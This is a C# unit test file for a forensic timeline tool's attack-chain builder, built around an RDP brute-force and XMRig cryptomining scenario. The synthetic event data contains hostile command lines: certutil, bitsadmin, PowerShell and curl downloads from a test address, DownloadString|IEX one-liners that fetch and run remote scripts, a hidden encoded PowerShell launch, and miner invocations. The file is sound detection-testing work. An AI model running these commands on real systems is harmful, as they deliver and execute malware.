using Timeline.Core.Findings;
using Timeline.Detection.Chain;
using Timeline.Tests.Support;
using Xunit;

namespace Timeline.Tests.Detection.Chain;

/// <summary>Windows gaps of the chain builder shown by the <c>windows-rdp-xmrig</c> scenario, each on inline events.</summary>
public sealed class WindowsChainTests
{
    private static readonly ChainOptions Options = new() { Knowledge = ChainKnowledge.Load(RepoPaths.Sigma) };
    private static readonly Dictionary<string, List<RuleMatch>> NoMatches = [];
    private const string Sid = "S-1-5-21-1-2-3-500";
    private const string Ip = "203.0.113.77";

    private static AttackChain Build(ChainEvents ev) => Assert.Single(ChainBuilder.Build(ev.Events, NoMatches, Options));

    /// <summary>42 NLA failures (address "-", workstation kali), 14 RDP failures from the address, then type 3 + type 10 a second apart.</summary>
    private static (Timeline.Core.Events.EventRecord Nla, Timeline.Core.Events.EventRecord Rdp) Attack(ChainEvents ev)
    {
        for (var i = 0; i < 42; i++)
            ev.Windows("win", i * 0.1, "4625", "logon_failed", ("user", i % 2 == 0 ? "admin" : "test"), ("IpAddress", "-"), ("WorkstationName", "kali"), ("workstation", "kali"), ("LogonType", "3"), ("logon_type", "3"));
        for (var i = 0; i < 14; i++)
            ev.Windows("win", 5 + i * 0.02, "4625", "logon_failed", ("user", "Administrator"), ("IpAddress", Ip), ("src_ip", Ip), ("WorkstationName", "win"), ("workstation", "win"), ("LogonType", "10"), ("logon_type", "10"));
        var nla = ev.Windows("win", 9, "4624", "logon_success", ("user", "Administrator"), ("TargetUserSid", Sid), ("src_ip", Ip), ("IpAddress", Ip), ("workstation", "kali"), ("logon_type", "3"), ("logon_id", "0x10"));
        var rdp = ev.Windows("win", 9 + 1.0 / 60, "4624", "logon_success", ("user", "Administrator"), ("TargetUserSid", Sid), ("src_ip", Ip), ("IpAddress", Ip), ("workstation", "win"), ("logon_type", "10"), ("logon_id", "0x20"));
        return (nla, rdp);
    }

    [Fact]
    public void TheNlaNetworkLogonAndTheRdpSessionLogonOfOneConnectionAreOneEntry()
    {
        var ev = new ChainEvents();
        var (nla, rdp) = Attack(ev);
        ev.Windows("win", 11, "4688", "process_create", ("user", "Administrator"), ("command", "C:\\ProgramData\\x\\xmrig.exe -o pool.minexmr.com:4444 --donate-level=0"));
        var chain = Build(ev);
        Assert.Equal(rdp.Id, chain.Entry!.EventId);
        Assert.Equal("rdp-bruteforce-success", chain.Entry.Kind);
        Assert.Single(chain.Steps, s => s.Phase == AttackPhase.Entry);
        Assert.DoesNotContain(chain.Steps, s => s.EventId == nla.Id);
        Assert.DoesNotContain("came back", chain.RootCause, StringComparison.Ordinal);
        Assert.DoesNotContain(chain.RunnersUp, r => r.EventId == nla.Id);
        Assert.Contains("NLA network logon", chain.Entry.Why, StringComparison.Ordinal);
        // The type 3 logon is part of the entry: it is cited with it.
        Assert.Contains(nla.Id, chain.Indicators.Single(i => i.Type == "user").EventIds);
        Assert.Contains(nla.Id, chain.Response.Single(a => a.Category == "rotate").EvidenceEventIds);
    }

    [Fact]
    public void FailuresByAddressAndByNlaWorkstationAreTalliedTogether()
    {
        var ev = new ChainEvents();
        Attack(ev);
        ev.Windows("win", 11, "4688", "process_create", ("user", "Administrator"), ("command", "powershell.exe -nop -w hidden -enc SQBFAFgA"));
        var entry = Build(ev).Entry!;
        Assert.StartsWith("56 failed logons from " + Ip, entry.Why, StringComparison.Ordinal);
        Assert.Contains("42 from workstation 'kali'", entry.Why, StringComparison.Ordinal);
        Assert.Contains(TimeWords.Of(ChainEvents.T0.Ticks) + " and " + TimeWords.Of(ChainEvents.T0.AddMinutes(5 + 13 * 0.02).Ticks), entry.Why, StringComparison.Ordinal);
        Assert.Contains("Administrator, admin, test", entry.Why, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("\"C:\\Windows\\system32\\certutil.exe\" -urlcache -split -f http://198.51.100.88/xmrig.zip C:\\ProgramData\\svc\\x.zip", "http://198.51.100.88/xmrig.zip")]
    [InlineData("certutil -urlcache -f http://198.51.100.88/a.exe C:\\Windows\\Temp\\a.exe", "http://198.51.100.88/a.exe")]
    [InlineData("bitsadmin /transfer job /download /priority high http://198.51.100.88/m.exe C:\\Users\\Public\\m.exe", "http://198.51.100.88/m.exe")]
    [InlineData("powershell Invoke-WebRequest -Uri http://198.51.100.88/m.zip -OutFile C:\\Windows\\Temp\\m.zip", "http://198.51.100.88/m.zip")]
    [InlineData("curl.exe -s http://198.51.100.88/m.exe -o C:\\Users\\bob\\AppData\\Local\\m.exe", "http://198.51.100.88/m.exe")]
    public void WindowsDownloadToolsAreDownloadStepsWithTheUrlAsIoc(string command, string url)
    {
        var ev = new ChainEvents();
        var e = ev.Windows("win", 0, "4688", "process_create", ("user", "bob"), ("command", command));
        var chain = Build(ev);
        var step = Assert.Single(chain.Steps, s => s.EventId == e.Id);
        Assert.Equal(AttackPhase.Execution, step.Phase);
        Assert.Contains(chain.Indicators, i => i.Type == "url" && i.Value == url);
        Assert.Contains(chain.Indicators, i => i.Type == "file" && i.Value.StartsWith("C:\\", StringComparison.Ordinal) && !i.Value.Contains("system32", StringComparison.OrdinalIgnoreCase));
    }

    [Fact]
    public void DroppedWindowsBinariesInUserWritableFoldersAreFileIocsToDelete()
    {
        var ev = new ChainEvents();
        ev.Windows("win", 0, "4688", "process_create", ("user", "bob"), ("command", "\"C:\\ProgramData\\svc\\xmrig.exe\" -o pool.minexmr.com:4444 -k --donate-level=0"));
        ev.Windows("win", 0.1, "7045", "service_install", ("service_name", "WinRing0_1_2_0"), ("ImagePath", "C:\\ProgramData\\svc\\WinRing0x64.sys"));
        ev.Windows("win", 0.2, "4688", "process_create", ("user", "bob"), ("command", "C:\\Windows\\System32\\cmd.exe /c C:\\Users\\Public\\run.bat http://198.51.100.9/x | iex"));
        var chain = Build(ev);
        var files = chain.Indicators.Where(i => i.Type == "file").Select(i => i.Value).ToList();
        Assert.Contains("C:\\ProgramData\\svc\\xmrig.exe", files);
        Assert.Contains("C:\\ProgramData\\svc\\WinRing0x64.sys", files);
        Assert.DoesNotContain(files, f => f.Contains("System32", StringComparison.OrdinalIgnoreCase));
        Assert.Contains(chain.Response, a => a.Target == "C:\\ProgramData\\svc\\xmrig.exe" && a.Action.StartsWith("Delete ", StringComparison.Ordinal));
        Assert.Contains(chain.Response, a => a.Category == "kill" && a.Target == "xmrig.exe" && a.Action.Contains("C:\\ProgramData\\svc\\xmrig.exe", StringComparison.Ordinal));
    }

    [Fact]
    public void AServiceLoggedBy4697And7045IsRemovedOnceCitingBoth()
    {
        var ev = new ChainEvents();
        var security = ev.Windows("win", 0, "4697", "service_install", ("user", "bob"), ("service_name", "WinRing0_1_2_0"), ("ServiceFileName", "C:\\ProgramData\\svc\\WinRing0x64.sys"));
        var system = ev.Windows("win", 0, "7045", "service_install", ("service_name", "WinRing0_1_2_0"), ("ImagePath", "C:\\ProgramData\\svc\\WinRing0x64.sys"));
        var chain = Build(ev);
        var remove = Assert.Single(chain.Response, a => a.Category == "remove" && a.Target == "WinRing0_1_2_0");
        Assert.Equal(new[] { security.Id, system.Id }.Order(), remove.EvidenceEventIds.Order());
        // WinRing0 is XMRig's MSR driver: the steps stay mining evidence.
        Assert.All(chain.Steps.Where(s => s.EventId == security.Id || s.EventId == system.Id), s => Assert.Equal(AttackPhase.Mining, s.Phase));
    }

    [Fact]
    public void ScriptBlocksNameTheUserOfTheirSid()
    {
        var ev = new ChainEvents();
        ev.Windows("win", 0, "4624", "logon_success", ("user", "Administrator"), ("TargetUserSid", Sid), ("src_ip", "10.0.0.5"), ("logon_type", "3"), ("logon_id", "0x30"));
        var block = ev.Add("win", "windows/evtx", ChainEvents.T0.AddMinutes(1).Ticks, Timeline.Core.Events.TimeQuality.Exact, "4104",
            ("Channel", "Microsoft-Windows-PowerShell/Operational"), ("EventID", "4104"), ("event", "script_block"), ("UserID", Sid),
            ("command", "(New-Object Net.WebClient).DownloadString('http://198.51.100.88/a.ps1')|IEX"));
        var other = ev.Add("win", "windows/evtx", ChainEvents.T0.AddMinutes(2).Ticks, Timeline.Core.Events.TimeQuality.Exact, "4104",
            ("Channel", "Microsoft-Windows-PowerShell/Operational"), ("EventID", "4104"), ("event", "script_block"), ("UserID", "S-1-5-18"),
            ("command", "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.88/b.ps1')"));
        var chain = Build(ev);
        var step = Assert.Single(chain.Steps, s => s.EventId == block.Id);
        Assert.Contains("of Administrator:", step.Summary, StringComparison.Ordinal);
        Assert.Contains("of SYSTEM:", Assert.Single(chain.Steps, s => s.EventId == other.Id).Summary, StringComparison.Ordinal);
        Assert.DoesNotContain("?", step.Summary.Split(':')[0], StringComparison.Ordinal);
    }
}
